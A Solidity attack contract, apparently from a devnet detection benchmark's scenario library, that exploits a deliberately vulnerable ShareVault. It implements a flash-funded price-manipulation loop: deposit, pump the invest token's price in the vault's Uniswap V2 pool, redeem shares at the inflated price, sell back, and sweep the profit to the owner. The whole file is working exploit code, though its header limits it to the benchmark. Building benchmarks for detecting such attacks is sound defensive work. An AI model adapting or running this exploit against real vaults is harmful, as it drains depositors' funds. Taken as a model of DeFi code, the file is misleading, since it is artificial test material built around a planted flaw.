// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable ShareVault. Do not point it at anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IUniswapV2Pair} from "../../devnet/interfaces/IUniswapV2Pair.sol";
import {V2Math} from "../../devnet/libraries/V2Math.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {ShareVault} from "../victims/ShareVault.sol";

/// @title ShareVaultAttacker
/// @notice Pattern 3 (Harvest): with capital in the vault's asset, `rounds` times:
///   1. deposit `depositAmount` at the normal share price;
///   2. buy the vault's invest token with `pumpAmount` in the vault's price pool (the spot value
///      of the vault's investment, hence its share price, jumps);
///   3. redeem as many shares as the idle balance pays for, at the inflated share price;
///   4. sell the invest token back.
/// Capital needed: depositAmount + pumpAmount of the asset. Profit (asset) and any shares left go
/// to the owner. Reverts if the vault is paused.
contract ShareVaultAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param vault Target vault.
    /// @param depositAmount Assets deposited each round.
    /// @param pumpAmount Assets swapped into the invest token each round.
    /// @param rounds Number of deposit/pump/redeem/unwind loops (>= 1).
    struct Params {
        ShareVault vault;
        uint256 depositAmount;
        uint256 pumpAmount;
        uint256 rounds;
    }

    /// @notice Runs the loop with `funding` (token = the vault's asset).
    /// @return profit Asset gained (sent to the owner with the rest of the balance).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
        _sweep(IERC20(address(p.vault)));
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        address asset = p.vault.asset();
        address investToken = address(p.vault.investToken());
        IUniswapV2Pair pool = p.vault.pricePool();
        IERC20(asset).forceApprove(address(p.vault), p.depositAmount * p.rounds);

        for (uint256 r = 0; r < p.rounds; ++r) {
            p.vault.deposit(p.depositAmount, address(this));
            uint256 bought = V2Math.swapExactIn(pool, asset, p.pumpAmount, address(this));
            uint256 shares = Math.min(p.vault.balanceOf(address(this)), p.vault.maxRedeem(address(this)));
            p.vault.redeem(shares, address(this), address(this));
            V2Math.swapExactIn(pool, investToken, bought, address(this));
        }
    }
}
